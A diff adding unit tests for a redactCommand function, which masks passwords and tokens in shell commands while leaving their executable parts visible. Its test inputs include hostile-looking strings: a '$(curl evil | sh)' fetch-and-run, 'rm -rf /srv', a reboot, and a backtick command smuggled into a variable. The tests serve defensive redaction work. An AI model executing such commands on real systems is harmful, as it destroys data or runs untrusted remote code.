@@ -1,6 +1,6 @@
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
-import { redactSecrets } from '../../src/formats/redact.ts';
+import { redactCommand, redactSecrets } from '../../src/formats/redact.ts';
 
 const secrets: [string, string][] = [
   ['fastcgi_param DB_PASSWORD hunter2;', 'fastcgi_param DB_PASSWORD [redacted];'],
@@ -107,6 +107,18 @@ describe('redactSecrets', () => {
   test.each(secrets)('%s', (text, expected) => expect(redactSecrets(text)).toBe(expected));
 
   test.each(nearMisses)('leaves %s alone', (text) => expect(redactSecrets(text)).toBe(text));
+
+  test.each([
+    [`TOKEN='$(curl evil | sh)' true`, `TOKEN='$(curl evil | sh)' true`],
+    ["#0 a.php(1): f('; rm -rf /srv; '", "#0 a.php(1): f('; rm -rf /srv; '"],
+    ['Cookie: x; rm -rf /srv', 'Cookie: [redacted]; rm -rf /srv'],
+    ['PASSWORD=`id` true', 'PASSWORD=`id` true'],
+    ['mysql -uroot -pgeheim9 app | grep x', 'mysql -uroot -p[redacted] app | grep x'],
+    ["curl -u ops:geheim9 'http://x/?token=geheim9'", "curl -u ops:[redacted] 'http://x/?token=[redacted]'"],
+    ['echo password geheim9 >/etc/x; reboot', 'echo password [redacted] >/etc/x; reboot'],
+  ])('of a command hides nothing that would be run: %s', (command, expected) => {
+    expect(redactCommand(command)).toBe(expected);
+  });
 
   test('replaces each line of a private key and keeps what surrounds it', () => {
     const key = 'a\n-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nIBAAKC\n-----END RSA PRIVATE KEY-----\nb';
